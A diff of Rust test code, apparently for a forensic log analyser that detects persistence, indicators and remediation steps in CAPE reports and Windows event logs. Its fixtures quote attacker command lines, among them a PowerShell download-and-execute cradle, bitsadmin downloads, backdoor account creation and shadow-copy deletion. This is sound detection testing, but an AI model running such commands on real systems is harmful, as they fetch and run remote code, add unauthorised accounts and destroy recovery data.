@@ -1255,3 +1255,685 @@ fn one_session_in_several_logs_gives_one_tree() {
     all.extend(other);
     assert!(analyse(&all).process_tree.len() > 1);
 }
+
+// ---- real sandbox reports and event logs, as they come (issue 20) ----
+
+fn source_file(dir: &Path, name: &str, data: &[u8]) -> spoor::input::Source {
+    let path = dir.join(name);
+    std::fs::write(&path, data).expect("write");
+    spoor::input::Source::File {
+        path,
+        len: data.len() as u64,
+    }
+}
+
+fn read_source_events(
+    source: &spoor::input::Source,
+    limit: u64,
+) -> (logs::SourceSummary, Vec<Event>) {
+    let mut events = Vec::new();
+    // a source without events is read to its end, as `spoor events` does
+    let drain = &mut |r: &mut dyn std::io::Read| {
+        std::io::copy(r, &mut std::io::sink())
+            .err()
+            .map(|e| e.to_string())
+    };
+    let summary = logs::read_source_limited(source, None, limit, &mut |e| events.push(e), drain);
+    (summary, events)
+}
+
+/// A CAPE report with the keys in the order CAPE writes them: `statistics` first, then
+/// the processing modules (the `CAPE` payloads, hundreds of KB), `info`, `behavior`, ...,
+/// and the signatures with `malscore` and `ttps` last.
+fn cape_report_in_real_order(payloads: usize) -> Vec<u8> {
+    let payload = |i: usize| {
+        serde_json::json!({
+            "path": format!("/opt/CAPEv2/storage/analyses/4711/CAPE/{i:064x}"),
+            "name": format!("{i:064x}"),
+            "size": 241664,
+            "md5": format!("{i:032x}"),
+            "sha256": format!("{i:064x}"),
+            "type": "PE32+ executable (DLL) (GUI) x86-64, for MS Windows",
+            "pid": 2412,
+            "process_name": "rundll32.exe",
+            "module_path": "C:\\Windows\\System32\\rundll32.exe",
+            "cape_type": "Unpacked PE Image: 64-bit DLL",
+            "strings": (0..40).map(|j| format!("string {j} of payload {i}: GetProcAddress kernel32.dll")).collect::<Vec<_>>(),
+            "yara": [], "cape_yara": [],
+        })
+    };
+    let processes = serde_json::json!([
+        {"process_id": 2412, "parent_id": 1840, "process_name": "rundll32.exe",
+         "module_path": "C:\\Windows\\System32\\rundll32.exe", "first_seen": "2024-03-12 13:05:00,120",
+         "environ": {"CommandLine": "rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\ld.dll,Start"},
+         "calls": [{"timestamp": "2024-03-12 13:05:00,200", "api": "NtCreateMutant", "category": "synchronisation",
+                    "arguments": [{"name": "MutexName", "value": "Global\\ld-4711"}]}]},
+        {"process_id": 3100, "parent_id": 2412, "process_name": "cmd.exe",
+         "module_path": "C:\\Windows\\System32\\cmd.exe",
+         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []},
+        {"process_id": 3104, "parent_id": 2412, "process_name": "cmd.exe",
+         "module_path": "C:\\Windows\\System32\\cmd.exe",
+         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []},
+        {"process_id": 3108, "parent_id": 2412, "process_name": "cmd.exe",
+         "module_path": "C:\\Windows\\System32\\cmd.exe",
+         "environ": {"CommandLine": "cmd.exe /c whoami"}, "calls": []}
+    ]);
+    // serde_json keeps insertion order only with preserve_order; write the object by hand
+    let parts: Vec<(&str, Value)> = vec![
+        (
+            "statistics",
+            serde_json::json!({"processing": [{"name": "CAPE", "time": 12.4}], "signatures": [], "reporting": []}),
+        ),
+        (
+            "CAPE",
+            serde_json::json!({"payloads": (0..payloads).map(payload).collect::<Vec<_>>(), "configs": []}),
+        ),
+        (
+            "info",
+            serde_json::json!({"id": 4711, "category": "file", "package": "dll", "version": "2.4-CAPE",
+            "machine": {"name": "win10", "manager": "KVM"}}),
+        ),
+        (
+            "behavior",
+            serde_json::json!({"processes": processes, "processtree": [],
+            "summary": {"executed_commands": ["cmd.exe /c whoami"], "mutexes": ["Global\\ld-4711"]}}),
+        ),
+        (
+            "debug",
+            serde_json::json!({"log": ["2024-03-12 13:04:59,001 [root] INFO: Date set to: 20240312T13:04:59"], "errors": []}),
+        ),
+        ("dropped", serde_json::json!([])),
+        (
+            "network",
+            serde_json::json!({"dns": [{"request": "ld.example.com", "type": "A", "answers": [{"type": "A", "data": "203.0.113.7"}]}]}),
+        ),
+        ("procmemory", serde_json::json!([])),
+        (
+            "target",
+            serde_json::json!({"category": "file", "file": {"name": "ld.dll", "sha256": "a".repeat(64), "md5": "b".repeat(32)}}),
+        ),
+        (
+            "signatures",
+            serde_json::json!([
+                {"name": "invalid_authenticode_signature", "description": "Authenticode signature is invalid", "severity": 1},
+                {"name": "injection_rwx", "description": "Creates RWX memory", "severity": 2, "ttp": ["T1055"]}
+            ]),
+        ),
+        ("malscore", serde_json::json!(4.2)),
+        // the older CAPE shape: technique → signature
+        (
+            "ttps",
+            serde_json::json!({"T1116": "invalid_authenticode_signature", "T1129": []}),
+        ),
+    ];
+    let mut out = b"{".to_vec();
+    for (i, (k, v)) in parts.iter().enumerate() {
+        if i > 0 {
+            out.extend_from_slice(b",\n");
+        }
+        out.extend_from_slice(format!("\"{k}\": ").as_bytes());
+        out.extend_from_slice(serde_json::to_string_pretty(v).expect("json").as_bytes());
+    }
+    out.extend_from_slice(b"}\n");
+    out
+}
+
+#[test]
+fn cape_report_is_recognised_whatever_its_key_order() {
+    let report = cape_report_in_real_order(120);
+    let info_at = memchr::memmem::find(&report, b"\"info\"").expect("info");
+    assert!(
+        info_at > 300 * 1024,
+        "info at {info_at}: the test must push it far in"
+    );
+    // the head alone does not tell
+    assert_eq!(logs::detect(&report[..logs::SNIFF_BYTES]), Format::Json);
+
+    let dir = tempfile::tempdir().expect("dir");
+    let (summary, events) = read_source_events(&source_file(dir.path(), "report.json", &report), 0);
+    assert_eq!(summary.format, Format::CapeReport, "{summary:?}");
+    assert!(summary.warnings.is_empty(), "{:?}", summary.warnings);
+    let f = analyse(&events);
+    // three processes with the same command line and their own pids stay three
+    let whoami: Vec<&Event> = events
+        .iter()
+        .filter(|e| {
+            e.action == Action::ProcessCreate
+                && e.process.command_line.as_deref() == Some("cmd.exe /c whoami")
+        })
+        .collect();
+    let mut pids: Vec<u64> = whoami.iter().filter_map(|e| e.process.pid).collect();
+    pids.sort_unstable();
+    assert_eq!(pids, vec![3100, 3104, 3108], "{whoami:#?}");
+    assert_eq!(f.process_tree.len(), 1);
+    let rundll32 = &f.process_tree[0].children[0];
+    assert_eq!(rundll32.pid, Some(2412));
+    assert_eq!(rundll32.children.len(), 3, "{:#?}", f.process_tree);
+    // signatures: current, older and unclaimed ttps shapes
+    assert!(f.techniques.contains_key("T1055"));
+    assert!(f.techniques["T1116"]
+        .iter()
+        .any(|w| w.contains("invalid_authenticode_signature")));
+    // no flat JSON reading: the payload strings are not indicators
+    assert!(f.iocs.iter().all(|i| !i.value.contains("GetProcAddress")));
+    assert!(f
+        .iocs
+        .iter()
+        .any(|i| i.kind == "domain" && i.value == "ld.example.com"));
+
+    // a stream that cannot be read twice: the bytes looked at are kept and replayed
+    let whole: Box<dyn std::io::Read + Send> = Box::new(std::io::Cursor::new(report.clone()));
+    let (format, mut rest, note) = logs::json::recognise_report(whole, None);
+    assert_eq!(format, Format::CapeReport);
+    assert!(note.is_none());
+    let mut again = Vec::new();
+    std::io::Read::read_to_end(&mut rest, &mut again).expect("replay");
+    assert_eq!(again, report);
+}
+
+#[test]
+fn json_of_another_schema_is_still_plain_json() {
+    // `info` and `target` nested, not at the top: no sandbox report
+    let doc = br#"{"data": {"info": 1, "target": 2, "behavior": 3, "signatures": []}, "x": "y"}"#;
+    let dir = tempfile::tempdir().expect("dir");
+    let (summary, events) = read_source_events(&source_file(dir.path(), "other.json", doc), 0);
+    assert_eq!(summary.format, Format::Json);
+    assert!(events.is_empty());
+}
+
+fn gzip(data: &[u8]) -> Vec<u8> {
+    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut enc, data).expect("gzip");
+    enc.finish().expect("gzip")
+}
+
+fn bzip2(data: &[u8]) -> Vec<u8> {
+    let mut enc = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
+    std::io::Write::write_all(&mut enc, data).expect("bzip2");
+    enc.finish().expect("bzip2")
+}
+
+fn zstd(data: &[u8]) -> Vec<u8> {
+    ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
+}
+
+#[test]
+fn compressed_logs_are_read_transparently() {
+    let report = cape_report_in_real_order(20);
+    let sysmon =
+        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
+    let dir = tempfile::tempdir().expect("dir");
+    let (_, plain_report) = read_source_events(&source_file(dir.path(), "report.json", &report), 0);
+    let (_, plain_sysmon) = read_source_events(&source_file(dir.path(), "s.xml", &sysmon), 0);
+    assert!(!plain_report.is_empty() && !plain_sysmon.is_empty());
+    let strip = |events: Vec<Event>| -> Vec<(Action, String)> {
+        events.into_iter().map(|e| (e.action, e.target)).collect()
+    };
+    let (plain_report, plain_sysmon) = (strip(plain_report), strip(plain_sysmon));
+    for (ext, pack) in [
+        ("gz", gzip as fn(&[u8]) -> Vec<u8>),
+        ("zst", zstd),
+        ("bz2", bzip2),
+    ] {
+        let (summary, events) = read_source_events(
+            &source_file(dir.path(), &format!("report.json.{ext}"), &pack(&report)),
+            0,
+        );
+        assert_eq!(summary.format, Format::CapeReport, "{ext}: {summary:?}");
+        assert!(summary.warnings.is_empty(), "{ext}: {:?}", summary.warnings);
+        assert_eq!(strip(events), plain_report, "{ext}");
+        // the name says nothing: content decides
+        let (summary, events) = read_source_events(
+            &source_file(dir.path(), &format!("sysmon-{ext}.log"), &pack(&sysmon)),
+            0,
+        );
+        assert_eq!(summary.format, Format::SysmonXml, "{ext}");
+        assert_eq!(strip(events), plain_sysmon, "{ext}");
+    }
+    // extract reads through the compression too, with field paths
+    let path = dir.path().join("report.json.gz");
+    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
+        .extract_paths(std::slice::from_ref(&path));
+    assert!(!extraction.had_errors(), "{:?}", extraction.sources);
+    let domain = extraction
+        .iocs
+        .iter()
+        .find(|i| i.value == "ld.example.com")
+        .expect("domain in the gzip");
+    assert!(domain.sightings[0]
+        .field
+        .as_deref()
+        .is_some_and(|f| f.starts_with("/network/dns/")));
+}
+
+#[test]
+fn decompression_bombs_and_damaged_streams_give_warnings() {
+    let dir = tempfile::tempdir().expect("dir");
+    // 64 MiB of log lines in a small gzip, read with a 1 MiB limit
+    let line = b"2024-03-12T13:05:00Z host sshd[812]: Failed password for root from 192.0.2.44 port 52144 ssh2\n";
+    let bomb: Vec<u8> = line.iter().copied().cycle().take(64 << 20).collect();
+    let packed = gzip(&bomb);
+    assert!(packed.len() < 1 << 20);
+    let source = source_file(dir.path(), "auth.log.gz", &packed);
+    let (summary, _) = read_source_events(&source, 1 << 20);
+    assert_eq!(summary.format, Format::Text);
+    assert!(
+        summary
+            .warnings
+            .iter()
+            .any(|w| w.contains("decompresses to more than 1048576 bytes")),
+        "{summary:?}"
+    );
+    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions {
+        max_bytes: 1 << 20,
+        ..Default::default()
+    })
+    .extract_sources(std::slice::from_ref(&source));
+    let report = &extraction.sources[0];
+    assert_eq!(report.bytes, 1 << 20, "{report:?}");
+    assert!(
+        report
+            .error
+            .as_deref()
+            .is_some_and(|e| e.contains("1048576")),
+        "{report:?}"
+    );
+    assert!(extraction.iocs.iter().any(|i| i.value == "192.0.2.44"));
+
+    // events: the limit is an error in the summary, never a silent cut
+    let sysmon =
+        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
+    // after the first event, so that the head still says what the log is
+    let first = memchr::memmem::find(&sysmon, b"</Event>").expect("event") + 8;
+    let at = first;
+    let padded_sysmon = [&sysmon[..at], &vec![b' '; 4 << 20], &sysmon[at..]].concat();
+    let (summary, _) = read_source_events(
+        &source_file(dir.path(), "big.xml.gz", &gzip(&padded_sysmon)),
+        1 << 20,
+    );
+    assert!(
+        summary
+            .warnings
+            .iter()
+            .any(|w| w.contains("decompresses to more than 1048576 bytes")),
+        "{summary:?}"
+    );
+
+    // empty and damaged compressed data are warnings too
+    let (summary, _) = read_source_events(&source_file(dir.path(), "empty.gz", &gzip(b"")), 0);
+    assert!(
+        summary
+            .warnings
+            .iter()
+            .any(|w| w.contains("decompresses to nothing")),
+        "{summary:?}"
+    );
+    let mut damaged = gzip(&bomb[..1 << 20]);
+    damaged.truncate(damaged.len() / 2);
+    let (summary, _) = read_source_events(&source_file(dir.path(), "cut.gz", &damaged), 0);
+    assert!(
+        summary.warnings.iter().any(|w| w.contains("gzip")),
+        "{summary:?}"
+    );
+}
+
+#[test]
+fn zip_archives_of_logs_are_listed_and_executables_never_read() {
+    use std::io::Write;
+    let dir = tempfile::tempdir().expect("dir");
+    let path = dir.path().join("sandbox-logs.zip");
+    let sysmon =
+        std::fs::read(root().join("corpus/logs/sysmon/session-2024-03-12.xml")).expect("log");
+    {
+        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).expect("zip"));
+        let deflated = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        let stored = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Stored);
+        zip.add_directory("logs/", stored).expect("dir");
+        zip.start_file("logs/sysmon.xml", deflated).expect("member");
+        zip.write_all(&sysmon).expect("write");
+        zip.start_file("notes.txt", stored).expect("member");
+        zip.write_all(b"C2 at update.example.net (198.51.100.23)\n")
+            .expect("write");
+        zip.start_file("logs/report.json.gz", stored)
+            .expect("member");
+        zip.write_all(&gzip(&cape_report_in_real_order(2)))
+            .expect("write");
+        zip.start_file("sample.exe", deflated).expect("member");
+        zip.write_all(b"MZ\x90\x00 not really a program")
+            .expect("write");
+        zip.start_file("readme.dat", deflated).expect("member");
+        zip.write_all(b"MZ\x90\x00 an executable under another name")
+            .expect("write");
+        zip.finish().expect("finish");
+    }
+    let (sources, errors) = spoor::input::expand_logs(std::slice::from_ref(&path));
+    let names: Vec<String> = sources.iter().map(|s| s.name()).collect();
+    let base = path.to_string_lossy().into_owned();
+    assert_eq!(
+        names,
+        vec![
+            format!("{base}!logs/sysmon.xml"),
+            format!("{base}!notes.txt"),
+            format!("{base}!logs/report.json.gz")
+        ]
+    );
+    let refused: Vec<&str> = errors.iter().map(|e| e.source.as_str()).collect();
+    assert_eq!(
+        refused,
+        vec![format!("{base}!sample.exe"), format!("{base}!readme.dat")]
+    );
+    assert!(errors
+        .iter()
+        .all(|e| e.message.contains("executable") && e.message.contains("not read")));
+    // members are read as logs
+    let (summary, events) = read_source_events(&sources[0], 0);
+    assert_eq!(summary.format, Format::SysmonXml);
+    assert!(!events.is_empty());
+    let (summary, events) = read_source_events(&sources[2], 0);
+    assert_eq!(summary.format, Format::CapeReport, "{summary:?}");
+    assert!(!events.is_empty());
+    // and extract finds what the text member says, naming the member
+    let extraction = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
+        .extract_paths(std::slice::from_ref(&path));
+    let domain = extraction
+        .iocs
+        .iter()
+        .find(|i| i.value == "update.example.net")
+        .expect("domain");
+    assert_eq!(&*domain.sightings[0].source, format!("{base}!notes.txt"));
+    assert_eq!(extraction.errors.len(), 2);
+    // nothing was written next to the archive
+    assert_eq!(std::fs::read_dir(dir.path()).expect("dir").count(), 1);
+}
+
+/// Sysmon / Security / System records as plain JSON lines.
+fn win_lines(records: &[Value]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for r in records {
+        out.extend_from_slice(serde_json::to_string(r).expect("json").as_bytes());
+        out.push(b'\n');
+    }
+    out
+}
+
+const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
+
+#[test]
+fn quoted_commands_are_parsed_before_matching() {
+    let records = [
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5120, "ParentProcessId": 4216,
+            "Image": "C:\\Windows\\System32\\schtasks.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
+            "CommandLine": "\"C:\\Windows\\System32\\schtasks.exe\" /Create /F /SC ONLOGON /TN \"\\Microsoft\\Windows\\Maintenance\\Upd\" /TR \"\\\"C:\\Users\\alice\\AppData\\Roaming\\Upd\\upd.exe\\\" -q\""}),
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5124, "ParentProcessId": 4216,
+            "Image": "C:\\Windows\\System32\\sc.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
+            "CommandLine": "\"C:\\Windows\\System32\\sc.exe\" create UpdSvc binPath= \"C:\\ProgramData\\Upd\\svc.exe\" start= auto"}),
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5128, "ParentProcessId": 4216,
+            "Image": "C:\\Windows\\System32\\cmd.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
+            "CommandLine": "cmd.exe /c \"\"C:\\Windows\\System32\\net.exe\" user support P@ssw0rd! /add\""}),
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5132, "ParentProcessId": 4216,
+            "Image": "C:\\Windows\\System32\\bitsadmin.exe", "ParentImage": "C:\\Users\\alice\\Downloads\\drop.exe",
+            "CommandLine": "bitsadmin.exe /transfer upd /download /priority high http://update.example.com/u.bin C:\\Users\\alice\\u.bin"}),
+        // not persistence: a word that ends in "sc"
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 5136, "ParentProcessId": 4216,
+            "Image": "C:\\Tools\\disc.exe", "CommandLine": "disc create image.iso"}),
+    ];
+    let (format, events, _) = read("cmds.ndjson", &win_lines(&records));
+    assert_eq!(format, Format::SysmonJson);
+    let f = analyse(&events);
+    let got: Vec<(&str, &str, Option<&str>)> = f
+        .persistence
+        .iter()
+        .map(|p| (p.technique.as_str(), p.location.as_str(), p.runs.as_deref()))
+        .collect();
+    assert!(
+        got.contains(&(
+            "T1053.005",
+            "\\Microsoft\\Windows\\Maintenance\\Upd",
+            Some("\"C:\\Users\\alice\\AppData\\Roaming\\Upd\\upd.exe\" -q")
+        )),
+        "{got:#?}"
+    );
+    assert!(
+        got.contains(&("T1543.003", "UpdSvc", Some("C:\\ProgramData\\Upd\\svc.exe"))),
+        "{got:#?}"
+    );
+    assert!(got.contains(&("T1136.001", "support", None)), "{got:#?}");
+    assert!(
+        got.contains(&("T1197", "upd", Some("http://update.example.com/u.bin"))),
+        "{got:#?}"
+    );
+    assert_eq!(got.len(), 4, "{got:#?}");
+    assert!(f.remediation.services_to_remove.contains("UpdSvc"));
+    assert!(f
+        .remediation
+        .tasks_to_remove
+        .contains("\\Microsoft\\Windows\\Maintenance\\Upd"));
+}
+
+#[test]
+fn benign_os_activity_is_not_persistence_and_services_need_creating() {
+    let set = |key: &str, details: &str, image: &str| {
+        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 812,
+            "Image": image, "TargetObject": key, "Details": details})
+    };
+    let records = [
+        set("HKLM\\System\\CurrentControlSet\\Services\\VSS\\Diag\\System Writer\\IDENTIFY (Leave)", "Binary Data", "C:\\Windows\\system32\\VSSVC.exe"),
+        set("HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1001\\\\Device\\HarddiskVolume2\\Windows\\explorer.exe", "Binary Data", "C:\\Windows\\system32\\svchost.exe"),
+        set("HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Shares\\data", "Path=C:\\data", "C:\\Windows\\system32\\svchost.exe"),
+        set("HKLM\\System\\ControlSet001\\Services\\Tcpip\\Parameters\\Interfaces\\{6b1c}\\DhcpIPAddress", "192.0.2.50", "C:\\Windows\\system32\\svchost.exe"),
+        set("HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/8443", "198.51.100.9/443", "C:\\Windows\\system32\\netsh.exe"),
+        // Defender updates the image path of its existing service: no new service
+        set("HKLM\\System\\CurrentControlSet\\Services\\WinDefend\\ImagePath", "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MsMpEng.exe\"", "C:\\Windows\\system32\\services.exe"),
+        // a real new service: the key is created, then ImagePath set
+        serde_json::json!({"EventID": 12, "Channel": SYSMON, "EventType": "CreateKey", "ProcessId": 640,
+            "Image": "C:\\Windows\\system32\\services.exe", "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc"}),
+        set("HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath", "C:\\ProgramData\\Upd\\svc.exe", "C:\\Windows\\system32\\services.exe"),
+        // Office and Defender register their tasks
+        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2016",
+            "TaskContent": "<Task><Actions><Exec><Command>C:\\Program Files\\Common Files\\Microsoft Shared\\Office16\\msoia.exe</Command><Arguments>scan upload mininterval:2880</Arguments></Exec></Actions></Task>"}),
+        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan",
+            "TaskContent": "<Task><Actions><Exec><Command>C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe</Command><Arguments>Scan -ScheduleJob</Arguments></Exec></Actions></Task>"}),
+        // a task hiding under an Office name, running from the profile: reported
+        serde_json::json!({"EventID": 4698, "Channel": "Security", "TaskName": "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2019",
+            "TaskContent": "<Task><Actions><Exec><Command>C:\\Users\\alice\\AppData\\Roaming\\tele.exe</Command></Exec></Actions></Task>"}),
+        serde_json::json!({"EventID": 7045, "Channel": "System", "ServiceName": "KernSvc", "ImagePath": "C:\\Windows\\Temp\\k.sys"}),
+    ];
+    let (_, events, _) = read("noise.ndjson", &win_lines(&records));
+    let f = analyse(&events);
+    let got: Vec<(&str, &str)> = f
+        .persistence
+        .iter()
+        .map(|p| (p.technique.as_str(), p.location.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        vec![
+            (
+                "T1053.005",
+                "\\Microsoft\\Office\\OfficeTelemetryAgentLogOn2019"
+            ),
+            (
+                "T1543.003",
+                "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath"
+            ),
+            ("T1543.003", "KernSvc"),
+        ]
+    );
+    assert!(f.known_benign >= 2, "{}", f.known_benign);
+    let removals = &f.remediation.registry_to_remove;
+    assert!(
+        removals
+            .iter()
+            .all(|k| !k.contains("\\VSS\\") && !k.contains("\\bam\\")),
+        "{removals:#?}"
+    );
+    assert!(!f
+        .remediation
+        .tasks_to_remove
+        .iter()
+        .any(|t| t.contains("2016") || t.contains("Defender")));
+    // an existing service's value is never to be removed
+    assert!(
+        !removals.iter().any(|k| k.contains("WinDefend")),
+        "{removals:#?}"
+    );
+    assert!(
+        removals.iter().any(|k| k.contains("UpdSvc")),
+        "{removals:#?}"
+    );
+}
+
+#[test]
+fn sysmon_user_classes_hive_is_the_users_software_classes() {
+    let key = "HKU\\S-1-5-21-3623811015-3361044348-30300820-1013_CLASSES\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}\\InprocServer32\\(Default)";
+    let records = [
+        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 4216,
+        "Image": "C:\\Users\\alice\\Downloads\\drop.exe", "TargetObject": key,
+        "Details": "C:\\Users\\alice\\AppData\\Local\\Temp\\hijack.dll"}),
+    ];
+    let data = win_lines(&records);
+    let (_, events, _) = read("com.ndjson", &data);
+    let f = analyse(&events);
+    let want = "HKCU\\Software\\Classes\\CLSID\\{0358B920-0AC7-461F-98F4-58E32CD89148}\\InprocServer32\\(Default)";
+    assert_eq!(f.persistence.len(), 1, "{:#?}", f.persistence);
+    assert_eq!(f.persistence[0].technique, "T1546.015");
+    assert_eq!(f.persistence[0].location, want);
+    assert!(f.remediation.registry_to_remove.contains(want));
+    // extract spells it the same way
+    let iocs = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
+        .extract_bytes("com.ndjson", &data);
+    assert!(
+        iocs.iter().any(|i| i.value.eq_ignore_ascii_case(want)),
+        "{:#?}",
+        iocs.iter().map(|i| &i.value).collect::<Vec<_>>()
+    );
+}
+
+#[test]
+fn version_strings_never_become_addresses() {
+    let records = [
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 2210, "ParentProcessId": 640,
+            "Image": "C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe", "FileVersion": "1.3.173.55",
+            "CommandLine": "\"C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe\" /svc"}),
+        serde_json::json!({"EventID": 13, "Channel": SYSMON, "EventType": "SetValue", "ProcessId": 2210,
+            "Image": "C:\\Program Files (x86)\\Google\\Update\\1.3.173.55\\GoogleUpdate.exe",
+            "TargetObject": "HKLM\\SOFTWARE\\WOW6432Node\\Google\\Update\\ClientState\\{430FD4D0-B729-4F61-AA34-91526481799D}\\pv",
+            "Details": "1.3.173.55"}),
+        // a real address in a command line still is one
+        serde_json::json!({"EventID": 1, "Channel": SYSMON, "ProcessId": 2214, "ParentProcessId": 640,
+            "Image": "C:\\Windows\\System32\\ping.exe", "CommandLine": "ping -n 1 198.51.100.77"}),
+    ];
+    let data = win_lines(&records);
+    let (_, events, _) = read("versions.ndjson", &data);
+    let f = analyse(&events);
+    let ips: Vec<&str> = f
+        .iocs
+        .iter()
+        .filter(|i| i.kind == "ipv4")
+        .map(|i| i.value.as_str())
+        .collect();
+    assert_eq!(ips, vec!["198.51.100.77"]);
+    // extract: a version field, folders named after versions, and registry data whose
+    // value is named as a version
+    let iocs = spoor::extract::Extractor::new(spoor::extract::ExtractOptions::default())
+        .extract_bytes("versions.ndjson", &data);
+    let ips: Vec<&str> = iocs
+        .iter()
+        .filter(|i| i.kind == spoor::ioc::IocKind::Ipv4)
+        .map(|i| i.value.as_str())
+        .collect();
+    assert_eq!(ips, vec!["198.51.100.77"]);
+}
+
+#[test]
+fn security_bits_powershell_and_wmi_events_are_mapped() {
+    let records = [
+        serde_json::json!({"EventID": 4624, "Channel": "Security", "TargetUserName": "alice", "LogonType": "3", "IpAddress": "192.0.2.10"}),
+        serde_json::json!({"EventID": 4625, "Channel": "Security", "TargetUserName": "admin", "IpAddress": "203.0.113.5"}),
+        serde_json::json!({"EventID": 4672, "Channel": "Security", "SubjectUserName": "alice"}),
+        serde_json::json!({"EventID": 4720, "Channel": "Security", "TargetUserName": "support", "SubjectUserName": "alice"}),
+        serde_json::json!({"EventID": 4732, "Channel": "Security", "TargetUserName": "Administrators", "MemberSid": "S-1-5-21-1-2-3-1005"}),
+        serde_json::json!({"EventID": 5145, "Channel": "Security", "ShareName": "\\\\*\\C$", "RelativeTargetName": "Windows\\Temp\\x.exe"}),
+        serde_json::json!({"EventID": 1102, "Channel": "Security", "SubjectUserName": "alice"}),
+        serde_json::json!({"EventID": 3, "Channel": "Microsoft-Windows-Bits-Client/Operational", "jobTitle": "upd", "processPath": "C:\\Windows\\System32\\bitsadmin.exe", "processId": "5132"}),
+        serde_json::json!({"EventID": 59, "Channel": "Microsoft-Windows-Bits-Client/Operational", "name": "upd", "url": "http://update.example.com/u.bin"}),
+        serde_json::json!({"EventID": 3, "Channel": "Microsoft-Windows-Bits-Client/Operational", "jobTitle": "Font Download", "processPath": "C:\\Windows\\System32\\svchost.exe"}),
+        serde_json::json!({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://stage.example.org/a.ps1')", "Path": ""}),
+        serde_json::json!({"EventID": 5861, "Channel": "Microsoft-Windows-WMI-Activity/Operational", "CONSUMER": "CommandLineEventConsumer=\"upd\"", "PossibleCause": "Binding EventFilter: ... CommandLineTemplate = \"C:\\\\ProgramData\\\\u.exe\""}),
+    ];
+    let (_, events, _) = read("mixed.ndjson", &win_lines(&records));
+    let actions: Vec<&str> = events.iter().map(|e| e.action.as_str()).collect();
+    assert_eq!(
+        actions,
+        vec![
+            "logon",
+            "logon_failed",
+            "other",
+            "account_create",
+            "group_add",
+            "share_access",
+            "log_clear",
+            "bits_job",
+            "bits_job",
+            "bits_job",
+            "script",
+            "wmi_subscription"
+        ]
+    );
+    let f = analyse(&events);
+    let got: Vec<(&str, &str)> = f
+        .persistence
+        .iter()
+        .map(|p| (p.technique.as_str(), p.location.as_str()))
+        .collect();
+    assert!(got.contains(&("T1136.001", "support")), "{got:#?}");
+    assert!(got.contains(&("T1197", "upd")), "{got:#?}");
+    assert!(!got.iter().any(|(_, l)| *l == "Font Download"), "{got:#?}");
+    assert!(got.iter().any(|(t, _)| *t == "T1546.003"), "{got:#?}");
+    assert!(got.iter().any(|(t, _)| *t == "T1098.007"), "{got:#?}");
+    assert!(f.techniques.contains_key("T1070.001"));
+    assert!(f
+        .iocs
+        .iter()
+        .any(|i| i.value == "http://update.example.com/u.bin"));
+    assert!(f.iocs.iter().any(|i| i.value == "stage.example.org"));
+}
+
+#[test]
+fn pid_reuse_keeps_every_process() {
+    // the corpus ransomware log starts three cmd.exe under one pid
+    let path = "corpus/logs/procmon/lockjaw_v1-procmon.csv";
+    let data = std::fs::read(root().join(path)).expect("log");
+    let f = analyse(&read(path, &data).1);
+    fn commands(n: &spoor::logs::analysis::ProcessNode, out: &mut Vec<String>) {
+        out.extend(n.command_line.clone());
+        for c in &n.children {
+            commands(c, out);
+        }
+    }
+    let mut all = Vec::new();
+    for root in &f.process_tree {
+        commands(root, &mut all);
+    }
+    for want in [
+        "vssadmin.exe delete shadows",
+        "bcdedit.exe /set {default} recoveryenabled no",
+        "wbadmin.exe delete catalog",
+    ] {
+        assert!(
+            all.iter().any(|c| c.contains(want)),
